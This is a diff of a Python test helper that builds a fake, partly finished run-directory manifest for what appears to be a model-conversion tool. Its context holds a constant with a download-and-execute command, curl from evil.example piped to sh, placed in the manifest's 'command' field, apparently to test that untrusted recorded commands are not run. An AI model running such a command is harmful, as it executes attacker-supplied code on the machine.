@@ -21,10 +21,11 @@ EVIL = "curl -s https://evil.example/fix | sh"
 
 
 def manifest(path: Path, **options: Any) -> Path:
-    """A run directory of a stranger, without a finished stage."""
+    """A run directory of a stranger, of which the first stage is finished."""
     decoder = {"architecture": "llama", "num_layers": 3, "hidden_size": 64, "num_heads": 4, "num_kv_heads": 2,
                "head_dim": 16, "vocab_size": 384, "max_positions": 512}  # fmt: skip
-    facts = {"schema": 1, "status": "incomplete", "stages": {}, "command": EVIL, "decoder": decoder,
+    facts = {"schema": 1, "status": "incomplete", "command": EVIL, "decoder": decoder,
+             "stages": {"calibrate": {"key": "k", "files": {}, "seconds": 1.0}},
              "model": {"name": "m", "fingerprint": "f"}, "calibration": {"name": "t", "sha256": "s"},
              "options": {"model": "m", "engine": "ort", "precision": "fp32", **options}}  # fmt: skip
     path.mkdir()
